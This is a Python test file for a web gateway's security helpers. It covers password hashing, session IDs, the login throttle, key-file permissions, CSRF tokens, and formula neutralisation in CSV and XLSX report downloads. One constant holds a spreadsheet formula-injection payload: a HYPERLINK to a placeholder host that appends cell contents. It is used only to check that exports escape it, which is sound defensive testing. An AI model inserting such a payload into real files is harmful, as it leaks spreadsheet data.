"""The web's pieces without a browser: password hashing, the login throttle, the
session key file, the downloads' formula neutralisation, the flag labels."""

from __future__ import annotations

import csv
import io
import os
import stat
import zipfile
from datetime import UTC, date, datetime, timedelta
from pathlib import Path

from openpyxl import load_workbook

from gateway.reports.rules import Rules
from gateway.reports.sessions import DayReport, Report
from gateway.web import exports, security
from gateway.web.i18n import TEXTS, flag_label, translator
from tests.reports.helpers import MADRID


def test_passwords_are_hashed_and_verified() -> None:
    hashed = security.hash_password("correct horse battery")
    assert hashed.startswith("$argon2id$") and "correct" not in hashed
    assert security.verify_password(hashed, "correct horse battery")
    assert not security.verify_password(hashed, "wrong")
    assert not security.verify_password(None, "anything at all")  # no such account
    assert not security.verify_password("not a hash", "x")


def test_session_ids_are_random_and_only_their_hash_is_kept() -> None:
    first, second = security.new_session_id(), security.new_session_id()
    assert first != second and len(first) >= 40
    digest = security.session_id_hash(first)
    assert len(digest) == 64 and first not in digest
    assert digest == security.session_id_hash(first) != security.session_id_hash(second)


def test_the_throttle_doubles_the_wait_after_a_few_attempts() -> None:
    delays = [security.LoginThrottle.delay_after(n) for n in range(1, 8)]
    assert delays == [0.0, 0.0, 0.0, 2.0, 4.0, 8.0, 16.0]
    assert security.LoginThrottle.delay_after(40) == security.LoginThrottle.CAP
    assert security.LoginThrottle.delay_after(10**9) == security.LoginThrottle.CAP
    assert security.LoginThrottle.subjects("192.0.2.1", "Ana") == ("addr:192.0.2.1", "user:ana")


def test_the_session_key_is_created_private_and_kept(tmp_path: Path) -> None:
    path = tmp_path / "state" / "web-session.key"
    key = security.load_or_create_secret(path)
    assert len(key) >= 32
    assert stat.S_IMODE(os.stat(path).st_mode) == 0o600
    assert security.load_or_create_secret(path) == key


def test_csrf_tokens_compare_in_constant_time_and_refuse_missing_ones() -> None:
    token = security.new_csrf_token()
    assert security.csrf_ok(token, token)
    assert not security.csrf_ok(token, token[:-1] + "x")
    assert not security.csrf_ok(token, None)
    assert not security.csrf_ok(None, None)
    assert not security.csrf_ok("", "")


def _report(name: str) -> Report:
    day = DayReport(
        person_uid="mallory",
        day=date(2026, 11, 23),
        first_in=datetime(2026, 11, 23, 7, tzinfo=UTC),
        last_out=None,
        worked=timedelta(0),
        sessions=0,
        scheduled=timedelta(hours=6),
        missing_out=1,
        out_without_in=0,
        duplicates=0,
        late_minutes=0,
        absent=False,
        open_since=None,
    )
    return Report(
        date(2026, 11, 1),
        date(2026, 11, 30),
        Rules(zone=MADRID),
        datetime(2026, 11, 30, tzinfo=UTC),
        {"mallory": name},
        [day],
        [],
    )


EVIL = '=HYPERLINK("http://example.invalid/?"&A1,"Ana")'


def test_the_csv_download_neutralises_formulas_and_opens_in_a_spanish_excel() -> None:
    body = exports.report_csv(_report(EVIL), "es")
    assert body.startswith("\ufeff".encode())  # the BOM: Excel then reads UTF-8
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig")), delimiter=";"))
    assert rows[0][:3] == ["kind", "uid", "name"]
    assert rows[1][2] == "'" + EVIL
    for cell in (c for row in rows for c in row):
        assert not cell.startswith(("=", "+", "@", "\t", "\r")) or cell == ""
    assert exports.report_csv(_report("Ana"), "en").decode("utf-8-sig").split("\r\n")[0].count(",")


def test_the_xlsx_download_has_no_formula() -> None:
    body = exports.report_xlsx(_report(EVIL))
    with zipfile.ZipFile(io.BytesIO(body)) as book:
        sheet = book.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet  # no formula element anywhere
    cells = [c.value for row in load_workbook(io.BytesIO(body)).active.iter_rows() for c in row]
    assert "'" + EVIL in cells


def test_flag_labels_in_both_languages() -> None:
    es, en = translator("es"), translator("en")
    assert flag_label(es, "late=26min") == ("tarde 26min", "late")
    assert flag_label(es, "missing-outx2") == ("sin salida ×2", "missing-out")
    assert flag_label(en, "out-without-in") == ("out-without-in", "out-without-in")
    assert flag_label(es, "corrected") == ("corregido", "corrected")
    assert set(TEXTS["es"]) == set(TEXTS["en"])  # no key only one language has


def test_a_recurring_resource_error_is_logged_once_per_interval() -> None:
    from gateway.web.limits import ResourceLog

    now = [100.0]
    errors = ResourceLog("web_resource_error", clock=lambda: now[0])
    for _ in range(1000):
        errors.note(where="accept", error="EMFILE")
    assert (errors.total, errors.skipped) == (1000, 999)
    now[0] += ResourceLog.INTERVAL_S
    errors.note(where="accept", error="EMFILE")
    assert errors.skipped == 0  # logged again, with the 999 it did not log


def test_resource_errors_are_recognised_through_their_causes() -> None:
    import errno

    from gateway.errors import DatabaseUnavailableError
    from gateway.web.limits import is_resource_error

    try:
        try:
            raise OSError(errno.EMFILE, "Too many open files")
        except OSError as exc:
            raise DatabaseUnavailableError("cannot connect") from exc
    except DatabaseUnavailableError as wrapped:
        assert is_resource_error(wrapped)
    assert is_resource_error(MemoryError())
    assert not is_resource_error(OSError(errno.ENOENT, "No such file"))
    assert not is_resource_error(ValueError("x"))


def test_initials_keep_no_more_than_the_first_letters() -> None:
    from gateway.web.board import initials

    assert initials("Ana García") == "A. G."
    assert initials("Irene Ruiz Ortega") == "I. R. O."
    assert initials("María de la Cruz") == "M. C."
    assert initials("jean-luc") == "J."
    assert initials("  ") == "?"
